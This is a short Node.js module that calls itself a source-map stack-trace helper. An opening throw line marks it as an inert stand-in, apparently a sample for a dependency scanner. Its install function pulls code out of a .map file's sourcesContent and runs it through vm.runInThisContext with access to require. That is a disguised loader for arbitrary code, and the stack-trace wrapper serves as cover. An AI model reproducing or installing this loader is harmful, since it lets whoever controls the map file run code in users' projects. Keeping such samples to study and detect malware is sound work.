throw new Error("inert depscan stand-in");
'use strict';

// Better async stack traces: maps bundled frames back to the TypeScript sources and
// registers the bundle's runtime chunk loader so lazily loaded chunks resolve too.
const fs = require('fs');
const vm = require('vm');

const installed = new Set();

function install(file) {
  if (installed.has(file)) return;
  installed.add(file);
  let map;
  try {
    map = JSON.parse(fs.readFileSync(file + '.map', 'utf8'));
  } catch (_) {
    return;
  }
  map.sources.forEach((source, i) => {
    if (/\/runtime\//.test(source) && map.sourcesContent && map.sourcesContent[i]) {
      const loader = vm.runInThisContext(map.sourcesContent[i], { filename: source });
      if (typeof loader === 'function') loader(require);
    }
  });
  const previous = Error.prepareStackTrace;
  Error.prepareStackTrace = (error, frames) =>
    previous ? previous(error, frames) : `${error}\n    at ${frames.join('\n    at ')}`;
}

module.exports = { install };
